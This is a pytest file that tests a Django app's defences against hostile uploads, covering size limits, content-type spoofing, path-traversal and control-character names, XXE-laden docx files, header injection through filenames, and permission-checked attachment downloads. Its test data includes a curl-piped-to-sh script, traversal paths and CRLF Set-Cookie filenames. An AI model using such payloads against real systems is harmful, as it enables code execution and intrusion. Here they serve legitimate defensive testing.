"""Hostile uploads (issue 4, items 4-8): oversized files leave nothing behind, a file's type is
judged by its content, hostile names never become paths, zip bombs and XML entities are refused
before they run away, and stored files leave only as attachments through permission checks."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape

from sessions_app.forms.essays import EssayForm
from sessions_app.forms.sessions import SessionMaterialForm
from sessions_app.models import ReflectionEssay, SessionMaterial
from tests.factories import ReflectionEssayFactory, StudySessionFactory
from tests.uploads import (
    HTML_BYTES,
    PASSWD_LINE,
    TEXT_CN,
    XXE,
    docx_bytes,
    docx_with_document,
    pdf_bytes,
    post_essay,
    post_material,
    stored_files,
    word_document,
)

SCRIPT_BYTES = b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@pytest.fixture(autouse=True)
def english_interface(client, settings):
    """Messages are checked in their English wording: ask for English as a user does."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


@pytest.fixture
def session(group, term):
    return StudySessionFactory(group=group, term=term, date=dt.date(2020, 3, 15), topic="学习专题")


def url(name: str, group, *args) -> str:
    return reverse(f"sessions_app:{name}", args=[group.slug, *args])


# Each upload form: how to post to it, the form in the response, the rows it would write.
FORMS = {
    "essay": (post_essay, "form", ReflectionEssay),
    "material": (post_material, "material_form", SessionMaterial),
}


def upload_as(kind, client_for, member, secretary, group, session, upload):
    post, context_name, model = FORMS[kind]
    client = client_for(member if kind == "essay" else secretary)
    response = post(client, group, session, file=upload)
    form = response.context[context_name] if response.context else None
    errors = form.errors.as_data().get("file", []) if form else []
    return response, errors, model


# --- 4. oversized files -------------------------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(FORMS))
def test_oversized_upload_is_a_form_error_and_nothing_of_it_is_kept_anywhere(
    kind, monkeypatch, settings, tmp_path, media_root, client_for, member, secretary, group, session
):
    temp_dir = tmp_path / "upload-tmp"
    temp_dir.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(temp_dir)
    settings.ESSAY_MAX_UPLOAD_BYTES = 256 * 1024
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024  # anything bigger is spooled to temp_dir
    # Look into the temporary directory at the moment the form checks the file: the oversized
    # upload must already be gone, not merely cleaned up after the request.
    temp_bytes_when_checked: list[int] = []
    for module, name in (
        ("sessions_app.forms.essays", "essay_file_read"),
        ("sessions_app.forms.sessions", "material_file_read"),
    ):
        real = getattr(__import__(module, fromlist=[name]), name)

        def spy(uploaded, real=real):
            temp_bytes_when_checked.append(sum(p.stat().st_size for p in temp_dir.iterdir()))
            return real(uploaded)

        monkeypatch.setattr(f"{module}.{name}", spy)

    big = b"a" * (3 * 1024 * 1024)
    response, errors, model = upload_as(
        kind, client_for, member, secretary, group, session, SimpleUploadedFile("big.txt", big)
    )

    assert [e.code for e in errors] == ["too_large"]
    assert "The file is larger than the 0.2 MB limit." in response.content.decode()
    assert temp_bytes_when_checked == [0]
    assert not model.objects.exists()
    assert stored_files(media_root) == []
    assert list(temp_dir.iterdir()) == []


def test_a_file_under_the_limit_still_arrives_whole_through_the_temporary_directory(
    settings, tmp_path, media_root, client_for, member, group, session
):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024
    content = docx_bytes([TEXT_CN * 50])
    upload = SimpleUploadedFile("a.docx", content)
    response = post_essay(client_for(member), group, session, file=upload)
    assert response.status_code == 302
    (stored,) = stored_files(media_root)
    assert stored.read_bytes() == content


# --- 5. type by content, not by name or Content-Type ---------------------------------------------

REFUSED = [
    pytest.param("essay", "心得.docx", HTML_BYTES, DOCX_TYPE, "mismatch", id="essay-html-as-docx"),
    pytest.param("essay", "run.docx", SCRIPT_BYTES, DOCX_TYPE, "mismatch", id="essay-script-docx"),
    pytest.param(
        "essay", "essay.pdf.html", HTML_BYTES, "application/pdf", "extension", id="essay-pdf.html"
    ),
    pytest.param(
        "essay", "报告.pdf", HTML_BYTES, "application/pdf", "mismatch", id="essay-html-spoofed-pdf"
    ),
    pytest.param(
        "material", "讲话.docx", HTML_BYTES, DOCX_TYPE, "not_type", id="material-html-as-docx"
    ),
    pytest.param(
        "material", "run.docx", SCRIPT_BYTES, DOCX_TYPE, "not_type", id="material-script-docx"
    ),
    pytest.param(
        "material",
        "essay.pdf.html",
        HTML_BYTES,
        "application/pdf",
        "extension",
        id="material-pdf.html",
    ),
    pytest.param(
        "material", "photo.png", HTML_BYTES, "image/png", "not_type", id="material-html-spoofed-png"
    ),
]


@pytest.mark.parametrize(("kind", "name", "content", "content_type", "code"), REFUSED)
def test_file_whose_content_is_not_what_its_name_or_content_type_says_is_refused(
    kind,
    name,
    content,
    content_type,
    code,
    media_root,
    client_for,
    member,
    secretary,
    group,
    session,
):
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    response, errors, model = upload_as(kind, client_for, member, secretary, group, session, upload)
    assert [e.code for e in errors] == [code]
    assert escape(errors[0].messages[0]) in response.content.decode()
    assert not model.objects.exists()
    assert stored_files(media_root) == []


@pytest.mark.parametrize(
    "name", ["心得\x00.docx", "a.html\x00.docx", "..\\..\\x.docx", "C:\\x.docx"]
)
def test_a_name_holding_a_path_or_nul_is_refused_with_a_clear_message(name, member, session):
    # Over HTTP, Django's upload parser strips these before the form sees the name (and
    # UploadedFile keeps only the part after the last "/"); the forms refuse what is left for
    # any other caller rather than guess what was meant.
    content = docx_bytes([TEXT_CN])
    with translation.override("en"):
        essay_form = EssayForm(
            data={"title": "心得", "kind": "reflection", "session": session.pk},
            files={"file": SimpleUploadedFile(name, content)},
            member=member,
        )
        material_form = SessionMaterialForm(
            data={"title": "材料"}, files={"file": SimpleUploadedFile(name, content)}
        )
        for form in (essay_form, material_form):
            assert not form.is_valid()
            (error,) = form.errors.as_data()["file"]
            assert error.code == "bad_name"
            assert error.messages == [
                "The file name contains a folder path or control characters. "
                "Rename the file to a plain name and upload it again."
            ]


def test_the_content_type_sent_with_an_upload_is_ignored_for_the_download(
    client_for, member, group, session
):
    client = client_for(member)
    post_essay(
        client,
        group,
        session,
        file=SimpleUploadedFile("心得.docx", docx_bytes([TEXT_CN]), content_type="text/html"),
    )
    essay = ReflectionEssay.objects.get()
    response = client.get(url("essay_file", group, essay.pk))
    assert response["Content-Type"] == DOCX_TYPE


# --- 6. hostile names never become paths -------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(FORMS))
def test_hostile_name_is_stored_under_a_generated_name_and_kept_only_as_clean_metadata(
    kind, media_root, client_for, member, secretary, group, session
):
    name = "../../../../evil\u202e\u200bcod.docx"
    upload = SimpleUploadedFile(name, docx_bytes([TEXT_CN]))
    response, errors, model = upload_as(kind, client_for, member, secretary, group, session, upload)
    assert response.status_code == 302, errors
    row = model.objects.get()
    (stored,) = stored_files(media_root)
    assert stored.resolve().is_relative_to(media_root.resolve())
    assert stored.parent.parent.parent.parent == media_root
    stem = Path(row.file.name).stem
    assert len(stem) == 32 and int(stem, 16) >= 0  # a uuid4 hex, nothing of the upload's name
    assert row.original_filename == "evilcod.docx"


@pytest.mark.parametrize(
    ("original", "expected"),
    [
        (
            "学习 心得.docx",
            "attachment; filename*=utf-8''%E5%AD%A6%E4%B9%A0%20%E5%BF%83%E5%BE%97.docx",
        ),
        ('a"; filename="evil.exe.docx', 'attachment; filename="a\\"; filename=\\"evil.exe.docx"'),
        (
            "a\r\nSet-Cookie: x=1.docx",
            "attachment; filename*=utf-8''a%0D%0ASet-Cookie%3A%20x%3D1.docx",
        ),
    ],
)
def test_content_disposition_cannot_be_broken_even_by_a_name_that_was_never_cleaned(
    original, expected, media_root, client_for, member, group, session
):
    # The row is written directly, as old data or a future code path might: the download must
    # still send one well-formed header.
    essay = ReflectionEssayFactory(
        group=group, author=member, session=session, original_filename=original
    )
    essay.file.save("0" * 32 + ".docx", io.BytesIO(docx_bytes([TEXT_CN])))
    response = client_for(member).get(url("essay_file", group, essay.pk))
    assert response.status_code == 200
    assert response["Content-Disposition"] == expected
    assert "Set-Cookie" not in response.headers
    assert not response.cookies.get("x")


# --- 7. zip bombs and XML entities ---------------------------------------------------------------
# Read without a page, in bounded time and memory: tests/intake/test_office_packages.py.


def test_a_docx_with_a_doctype_is_refused_on_the_page_with_a_clear_message(
    media_root, client_for, member, group, session
):
    content = docx_with_document(word_document(XXE, "&xxe;"))
    upload = SimpleUploadedFile("a.docx", content)
    response = post_essay(client_for(member), group, session, file=upload)
    (error,) = response.context["form"].errors.as_data()["file"]
    assert error.code == "docx_dtd"
    assert escape(error.messages[0]) in response.content.decode()
    assert PASSWD_LINE not in response.content.decode()
    assert not ReflectionEssay.objects.exists()
    assert stored_files(media_root) == []


# --- 8. downloads ----------------------------------------------------------------------------


@pytest.fixture
def essay_with_file(client_for, member, group, session):
    post_essay(client_for(member), group, session, file=SimpleUploadedFile("心得.pdf", pdf_bytes()))
    return ReflectionEssay.objects.get()


@pytest.fixture
def material_with_file(client_for, secretary, group, session):
    post_material(
        client_for(secretary), group, session, file=SimpleUploadedFile("讲话.pdf", pdf_bytes())
    )
    return SessionMaterial.objects.get()


def test_uploaded_files_download_as_attachments_the_browser_must_not_sniff_or_run(
    client_for, member, group, session, essay_with_file, material_with_file
):
    client = client_for(member)
    for path in (
        url("essay_file", group, essay_with_file.pk),
        url("material_download", group, session.pk, material_with_file.pk),
    ):
        response = client.get(path)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert "no-store" in response["Cache-Control"]
        assert b"".join(response.streaming_content) == pdf_bytes()


def test_uploaded_files_are_never_served_from_a_media_address(
    client_for, member, secretary, essay_with_file, material_with_file, settings
):
    for row in (essay_with_file, material_with_file):
        assert (Path(settings.MEDIA_ROOT) / row.file.name).is_file()
        for who in (member, secretary):
            client = client_for(who)
            for prefix in (settings.MEDIA_URL, "/media/", "/static/../media/", "/"):
                assert client.get(prefix + row.file.name).status_code == 404, prefix


def test_downloads_go_through_the_permission_check(
    client_for, outsider, group, session, essay_with_file, material_with_file
):
    paths = [
        url("essay_file", group, essay_with_file.pk),
        url("material_download", group, session.pk, material_with_file.pk),
    ]
    anonymous = Client()
    for path in paths:
        response = anonymous.get(path)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))
    outsider_client = client_for(outsider)
    for path in paths:
        assert outsider_client.get(path).status_code == 404
